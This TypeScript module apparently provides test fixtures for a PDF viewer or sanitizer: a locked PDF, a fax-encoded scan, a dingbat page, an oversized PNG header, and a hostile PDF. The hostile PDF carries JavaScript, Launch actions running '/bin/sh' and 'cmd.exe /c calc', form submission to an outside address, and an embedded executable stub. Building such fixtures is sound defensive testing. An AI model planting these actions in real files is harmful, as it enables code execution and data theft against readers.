/** Objects of a PDF by number, from 1; the first is the catalog. */
type Objects = readonly string[]

/** Writes a PDF out of its objects as they stand; `trailer` takes further entries of the trailer. */
export function rawPdf(objects: Objects, trailer = ''): Uint8Array {
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const offset = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const start = text.length
  const rows = offsets.map(offset => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

const stream = (content: string, entries = ''): string =>
  `<< /Length ${content.length} ${entries} >>\nstream\n${content}\nendstream`
const PAGES = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>'
const TEXT = 'BT /F 40 Tf 72 600 Td (Seen, not run) Tj ET'
const FONTS = '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>'

/** A PDF that asks for a password: its own check of the empty one fails. */
export function lockedPdf(): Uint8Array {
  const filler = (byte: string): string => `<${byte.repeat(32)}>`
  return rawPdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
      `<< /Filter /Standard /V 1 /R 2 /P -44 /O ${filler('a1')} /U ${filler('b2')} >>`
    ],
    `/Encrypt 4 0 R /ID [${filler('c3')} ${filler('c3')}]`
  )
}

/** A PDF that tries everything a reader has ever carried out: scripts, programs, addresses, forms that are sent, files it brings along. */
export function hostilePdf(address: string): Uint8Array {
  const script = `app.alert('run'); app.launchURL('${address}/script', true); this.submitForm('${address}/form'); this.exportDataObject({ cName: 'a.exe', nLaunch: 2 })`
  const js = `<< /S /JavaScript /JS (${script.replaceAll(/[()\\]/g, sign => `\\${sign}`)}) >>`
  const uri = `<< /S /URI /URI (${address}/uri) >>`
  const launch = '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>'
  const submit = `<< /S /SubmitForm /F << /FS /URL /F (${address}/submit) >> >>`
  const link = (action: string): string =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${action} /AA << /E ${js} /PO ${uri} /PV ${js} >> >>`
  const xfa =
    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize">` +
    `<script contentType="application/x-javascript">xfa.host.gotoURL("${address}/xfa")</script></event></subform></template></xdp:xdp>`
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js} /AA << /WC ${js} /WP ${js} /DP ${uri} >> /URI << /Base (${address}/base) >>
      /Names << /JavaScript << /Names [(start) ${js}] >> /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>
      /AcroForm << /XFA 7 0 R /NeedAppearances true /CO [8 0 R] /Fields [8 0 R] >> >>`,
    PAGES,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << ${FONTS} /XObject << /Far 9 0 R >> >>
      /AA << /O ${js} /C ${launch} >> /Annots [8 0 R ${[js, uri, launch, submit].map(link).join(' ')}
      << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >> << /Type /Annot /Subtype /FileAttachment /Rect [9 9 19 19] /FS 5 0 R >>] >>`,
    stream(`${TEXT} /Far Do`),
    '<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 6 0 R >> >>',
    stream('MZ', '/Type /EmbeddedFile /Subtype /application#2Fx-msdownload'),
    stream(xfa),
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 612 792] /A ${submit} /AA << /K ${js} /F ${js} /V ${js} /C ${js} >> >>`,
    // A picture whose content lies elsewhere.
    stream(
      '',
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${address}/far.png) >>`
    )
  ])
}

/** Sixteen rows, packed as a fax machine does (Group 4): four white, eight black, four white; then the end of the block. */
const FAX_ROWS = [
  '001' + '1011' + '000101' + '1',
  ...Array<string>(15).fill('111'),
  '000000000001',
  '000000000001'
].join('')

/** A PDF of one scanned page, packed as a fax: its middle half is black from top to bottom. */
export function faxPdf(): Uint8Array {
  const bytes = (FAX_ROWS.match(/.{1,8}/g) ?? []).map(bits => parseInt(bits.padEnd(8, '0'), 2))
  const image =
    '/Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 16 /Rows 16 >>'
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /Scan 5 0 R >> >> >>',
    stream('q 612 0 0 792 0 0 cm /Scan Do Q'),
    stream(String.fromCharCode(...bytes), image)
  ])
}

/** A PDF of one page with the tick of a form, in the font for such signs, which no PDF need bring along. */
export function tickedPdf(): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R
      /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >> >> >> >>`,
    stream('BT /F 400 Tf 100 300 Td (n) Tj ET')
  ])
}

/** The head of a PNG of a hundred thousand pixels by as many, and nothing behind it. */
export function endlessPng(): Uint8Array {
  const header = Buffer.alloc(33)
  header.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52])
  header.writeUInt32BE(100_000, 16)
  header.writeUInt32BE(100_000, 20)
  return header
}
